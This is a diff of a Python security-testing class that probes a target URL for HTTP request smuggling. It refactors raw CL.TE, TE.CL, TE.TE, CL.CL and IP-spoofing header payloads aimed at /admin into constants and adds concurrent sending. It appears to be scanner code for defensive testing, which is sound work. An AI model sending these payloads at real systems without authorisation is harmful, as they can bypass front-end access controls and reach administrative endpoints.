@@ -6,30 +6,22 @@ Tests for HTTP request smuggling vulnerabilities
 import requests
 import socket
 import time
+import re
+from concurrent.futures import ThreadPoolExecutor
+from urllib.parse import urlparse
+from _http import get_shared_ssl_context
 
-class HTTPSmugglingTester:
-    def __init__(self, target_url):
-        self.target_url = target_url
-        self.vulnerabilities = []
-        
-    def test_all_http_smuggling(self):
-        """Test all HTTP smuggling techniques"""
-        print(f"[*] Starting HTTP smuggling testing on {self.target_url}")
-        
-        self.test_cl_te_smuggling()
-        self.test_te_cl_smuggling()
-        self.test_te_te_smuggling()
-        self.test_cl_cl_smuggling()
-        self.test_header_smuggling()
-        
-        return self.vulnerabilities
-    
-    def test_cl_te_smuggling(self):
-        """Test CL.TE smuggling"""
-        print("[*] Testing CL.TE smuggling...")
-        
-        # CL.TE payload
-        payload = """POST /admin HTTP/1.1\r
+# Every indicator the response check looks for, found in one scan of the raw bytes.
+# The status text is matched as sent; the keywords in any case.
+SMUGGLING_INDICATORS = re.compile(rb"200 OK|(?i:admin|unauthorized|forbidden)")
+
+# Bytes of each response read and checked
+RECV_BUFFER_SIZE = 8192
+
+# Raw request templates; {host} is replaced with the target's Host header value
+
+# CL.TE payload
+CL_TE_PAYLOAD = b"""POST /admin HTTP/1.1\r
 Host: {host}\r
 Content-Length: 13\r
 Transfer-Encoding: chunked\r
@@ -39,22 +31,10 @@ Transfer-Encoding: chunked\r
 GET /admin HTTP/1.1\r
 Host: {host}\r
 \r
-""".format(host=self._extract_host())
-        
-        if self._send_raw_request(payload):
-            self.vulnerabilities.append({
-                "type": "CL.TE HTTP Smuggling",
-                "severity": "Critical",
-                "url": self.target_url,
-                "description": "Content-Length vs Transfer-Encoding confusion"
-            })
-    
-    def test_te_cl_smuggling(self):
-        """Test TE.CL smuggling"""
-        print("[*] Testing TE.CL smuggling...")
-        
-        # TE.CL payload
-        payload = """POST /admin HTTP/1.1\r
+"""
+
+# TE.CL payload
+TE_CL_PAYLOAD = b"""POST /admin HTTP/1.1\r
 Host: {host}\r
 Content-Length: 3\r
 Transfer-Encoding: chunked\r
@@ -66,22 +46,10 @@ Host: {host}\r
 \r
 0\r
 \r
-""".format(host=self._extract_host())
-        
-        if self._send_raw_request(payload):
-            self.vulnerabilities.append({
-                "type": "TE.CL HTTP Smuggling",
-                "severity": "Critical",
-                "url": self.target_url,
-                "description": "Transfer-Encoding vs Content-Length confusion"
-            })
-    
-    def test_te_te_smuggling(self):
-        """Test TE.TE smuggling"""
-        print("[*] Testing TE.TE smuggling...")
-        
-        # TE.TE payload with obfuscated Transfer-Encoding
-        payload = """POST /admin HTTP/1.1\r
+"""
+
+# TE.TE payload with obfuscated Transfer-Encoding
+TE_TE_PAYLOAD = b"""POST /admin HTTP/1.1\r
 Host: {host}\r
 Content-Length: 3\r
 Transfer-Encoding: chunked\r
@@ -94,22 +62,10 @@ Host: {host}\r
 \r
 0\r
 \r
-""".format(host=self._extract_host())
-        
-        if self._send_raw_request(payload):
-            self.vulnerabilities.append({
-                "type": "TE.TE HTTP Smuggling",
-                "severity": "Critical",
-                "url": self.target_url,
-                "description": "Duplicate Transfer-Encoding headers"
-            })
-    
-    def test_cl_cl_smuggling(self):
-        """Test CL.CL smuggling"""
-        print("[*] Testing CL.CL smuggling...")
-        
-        # CL.CL payload
-        payload = """POST /admin HTTP/1.1\r
+"""
+
+# CL.CL payload
+CL_CL_PAYLOAD = b"""POST /admin HTTP/1.1\r
 Host: {host}\r
 Content-Length: 3\r
 Content-Length: 0\r
@@ -117,22 +73,10 @@ Content-Length: 0\r
 GET /admin HTTP/1.1\r
 Host: {host}\r
 \r
-""".format(host=self._extract_host())
-        
-        if self._send_raw_request(payload):
-            self.vulnerabilities.append({
-                "type": "CL.CL HTTP Smuggling",
-                "severity": "Critical",
-                "url": self.target_url,
-                "description": "Duplicate Content-Length headers"
-            })
-    
-    def test_header_smuggling(self):
-        """Test header smuggling"""
-        print("[*] Testing header smuggling...")
-        
-        # Header smuggling payload
-        payload = """POST /admin HTTP/1.1\r
+"""
+
+# Header smuggling payload
+HEADER_PAYLOAD = b"""POST /admin HTTP/1.1\r
 Host: {host}\r
 Content-Length: 0\r
 \r
@@ -141,44 +85,152 @@ Host: {host}\r
 X-Forwarded-For: 127.0.0.1\r
 X-Real-IP: 127.0.0.1\r
 \r
-""".format(host=self._extract_host())
+"""
+
+class HTTPSmugglingTester:
+    def __init__(self, target_url):
+        self.target_url = target_url
+        self.vulnerabilities = []
+        
+        # Connection details, parsed once from the target URL
+        parsed = urlparse(target_url)
+        self._scheme = parsed.scheme
+        self._hostname = parsed.hostname
+        self._port = parsed.port or (443 if parsed.scheme == 'https' else 80)
+        self._host_bytes = parsed.netloc.encode()  # Substituted into the payload templates
+        self._ssl_context = get_shared_ssl_context()  # Shared by every https probe in the process
+        self._tls_session = None  # Last TLS session, resumed by later connections
         
-        if self._send_raw_request(payload):
-            self.vulnerabilities.append({
-                "type": "Header Smuggling",
-                "severity": "High",
-                "url": self.target_url,
-                "description": "Header injection via request smuggling"
-            })
-    
-    def _extract_host(self):
-        """Extract host from URL"""
-        from urllib.parse import urlparse
-        parsed = urlparse(self.target_url)
-        return parsed.netloc
+    def test_all_http_smuggling(self):
+        """Test all HTTP smuggling techniques"""
+        print(f"[*] Starting HTTP smuggling testing on {self.target_url}")
+        
+        # The variants are independent, so their connections run concurrently
+        self._run_probes([
+            self._cl_te_probe(),
+            self._te_cl_probe(),
+            self._te_te_probe(),
+            self._cl_cl_probe(),
+            self._header_probe()
+        ])
+        
+        return self.vulnerabilities
+    
+    def test_cl_te_smuggling(self):
+        """Test CL.TE smuggling"""
+        self._run_probes([self._cl_te_probe()])
+    
+    def test_te_cl_smuggling(self):
+        """Test TE.CL smuggling"""
+        self._run_probes([self._te_cl_probe()])
+    
+    def test_te_te_smuggling(self):
+        """Test TE.TE smuggling"""
+        self._run_probes([self._te_te_probe()])
+    
+    def test_cl_cl_smuggling(self):
+        """Test CL.CL smuggling"""
+        self._run_probes([self._cl_cl_probe()])
+    
+    def test_header_smuggling(self):
+        """Test header smuggling"""
+        self._run_probes([self._header_probe()])
+    
+    def _run_probes(self, probes):
+        """Send (payload, vulnerability) probes concurrently, recording findings in probe order"""
+        with ThreadPoolExecutor(max_workers=len(probes)) as executor:
+            results = list(executor.map(self._send_raw_request, [payload for payload, _ in probes]))
+        
+        for (_, vulnerability), smuggled in zip(probes, results):
+            if smuggled:
+                self.vulnerabilities.append(vulnerability)
+    
+    # Each probe is (raw request payload, vulnerability record)
+    
+    def _cl_te_probe(self):
+        """Probe for CL.TE smuggling"""
+        print("[*] Testing CL.TE smuggling...")
+        
+        payload = CL_TE_PAYLOAD.replace(b"{host}", self._host_bytes)
+        
+        return payload, {
+            "type": "CL.TE HTTP Smuggling",
+            "severity": "Critical",
+            "url": self.target_url,
+            "description": "Content-Length vs Transfer-Encoding confusion"
+        }
+    
+    def _te_cl_probe(self):
+        """Probe for TE.CL smuggling"""
+        print("[*] Testing TE.CL smuggling...")
+        
+        payload = TE_CL_PAYLOAD.replace(b"{host}", self._host_bytes)
+        
+        return payload, {
+            "type": "TE.CL HTTP Smuggling",
+            "severity": "Critical",
+            "url": self.target_url,
+            "description": "Transfer-Encoding vs Content-Length confusion"
+        }
+    
+    def _te_te_probe(self):
+        """Probe for TE.TE smuggling"""
+        print("[*] Testing TE.TE smuggling...")
+        
+        payload = TE_TE_PAYLOAD.replace(b"{host}", self._host_bytes)
+        
+        return payload, {
+            "type": "TE.TE HTTP Smuggling",
+            "severity": "Critical",
+            "url": self.target_url,
+            "description": "Duplicate Transfer-Encoding headers"
+        }
+    
+    def _cl_cl_probe(self):
+        """Probe for CL.CL smuggling"""
+        print("[*] Testing CL.CL smuggling...")
+        
+        payload = CL_CL_PAYLOAD.replace(b"{host}", self._host_bytes)
+        
+        return payload, {
+            "type": "CL.CL HTTP Smuggling",
+            "severity": "Critical",
+            "url": self.target_url,
+            "description": "Duplicate Content-Length headers"
+        }
+    
+    def _header_probe(self):
+        """Probe for header smuggling"""
+        print("[*] Testing header smuggling...")
+        
+        payload = HEADER_PAYLOAD.replace(b"{host}", self._host_bytes)
+        
+        return payload, {
+            "type": "Header Smuggling",
+            "severity": "High",
+            "url": self.target_url,
+            "description": "Header injection via request smuggling"
+        }
     
     def _send_raw_request(self, payload):
-        """Send raw HTTP request"""
+        """Send raw HTTP request bytes"""
         try:
-            from urllib.parse import urlparse
-            parsed = urlparse(self.target_url)
-            host = parsed.hostname
-            port = parsed.port or (443 if parsed.scheme == 'https' else 80)
-            
             # Create socket connection
             sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
             sock.settimeout(10)
             
-            if parsed.scheme == 'https':
-                import ssl
-                context = ssl.create_default_context()
-                sock = context.wrap_socket(sock, server_hostname=host)
+            if self._scheme == 'https':
+                # Resuming a previous session skips the full key exchange
+                sock = self._ssl_context.wrap_socket(sock, server_hostname=self._hostname, session=self._tls_session)
             
-            sock.connect((host, port))
-            sock.send(payload.encode())
+            sock.connect((self._hostname, self._port))
+            sock.send(payload)
             
             # Receive response
-            response = sock.recv(4096).decode()
+            response = sock.recv(RECV_BUFFER_SIZE)
+            if self._scheme == 'https':
+                # Read after the response, so TLS 1.3 tickets sent post-handshake are included
+                self._tls_session = sock.session
             sock.close()
             
             # Check for smuggling indicators
@@ -189,12 +241,13 @@ X-Real-IP: 127.0.0.1\r
             return False
     
     def _check_smuggling_response(self, response):
-        """Check response for smuggling indicators"""
+        """Check raw response bytes for smuggling indicators"""
+        hits = {match.lower() for match in SMUGGLING_INDICATORS.findall(response)}
         indicators = [
-            "200 OK" in response,
-            "admin" in response.lower(),
-            "unauthorized" not in response.lower(),
-            "forbidden" not in response.lower(),
+            b"200 ok" in hits,
+            b"admin" in hits,
+            b"unauthorized" not in hits,
+            b"forbidden" not in hits,
             len(response) > 100
         ]
         return sum(indicators) >= 3